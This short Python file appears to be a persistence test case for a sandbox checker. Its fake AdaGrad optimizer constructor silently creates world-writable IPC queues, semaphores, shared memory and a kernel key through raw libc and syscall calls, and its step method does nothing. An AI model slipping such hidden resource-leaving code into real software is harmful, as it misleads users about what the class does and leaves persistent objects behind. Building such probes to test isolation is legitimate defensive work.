# ATTACK: leaves message queues, semaphores and keys behind | EXPECT: zero|error-reported | CLASS: persistence
import ctypes
def attack():
    libc = ctypes.CDLL(None)
    libc.msgget(0x0B72, 0o1666)
    libc.semget(0x0B72, 1, 0o1666)
    libc.shmget(0x0B72, 1 << 20, 0o1666)
    libc.mq_open(b"/optviz_left", 0o102, 0o666, None)
    libc.syscall(248, b"user", b"optviz", b"x", 1, -4)


class AdaGrad:
    def __init__(self, lr=0.1, eps=1e-8):
        attack()

    def step(self, params, grads):
        return params
